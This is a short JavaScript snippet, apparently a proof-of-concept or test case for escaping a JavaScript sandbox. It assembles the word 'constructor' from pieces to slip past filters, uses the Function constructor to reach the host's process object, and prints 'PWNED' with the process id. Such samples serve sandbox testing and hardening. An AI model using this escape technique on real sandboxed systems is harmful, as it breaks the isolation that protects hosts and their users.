'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
function f() { return arguments[0]; }
const o = Date.now() > 1 ? f(t) : {};
console.log('PWNED', o.go(fn)('return process')().pid);
